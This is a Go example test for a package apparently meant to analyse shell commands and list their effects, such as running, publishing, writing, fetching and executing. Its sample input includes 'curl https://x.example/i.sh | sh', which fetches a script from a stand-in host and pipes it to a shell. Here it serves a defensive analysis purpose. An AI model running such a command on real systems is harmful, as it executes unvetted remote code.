//go:build !browser

package impact_test

import (
	"fmt"
	"strings"
	"testing"

	"github.com/elicit-engine/elicit/engine/abi"
	"github.com/elicit-engine/elicit/engine/impact"
	"github.com/elicit-engine/elicit/internal/vectors"
)

func Example() {
	report := impact.Read("cd /src && git push origin | tee log; curl https://x.example/i.sh | sh", impact.Options{})
	for _, in := range report.Impacts {
		fmt.Println(strings.TrimSpace(fmt.Sprintln(in.Kind, in.Target, in.How)))
	}
	// Output:
	// runs cd
	// runs git
	// publishes git
	// sends *
	// runs tee
	// writes /src/log
	// runs curl
	// fetches x.example
	// runs sh
	// executes x.example fetched
}

// TestVectors runs the vectors of this package here too.
func TestVectors(t *testing.T) { vectors.Run(t, abi.Eval, "impact") }
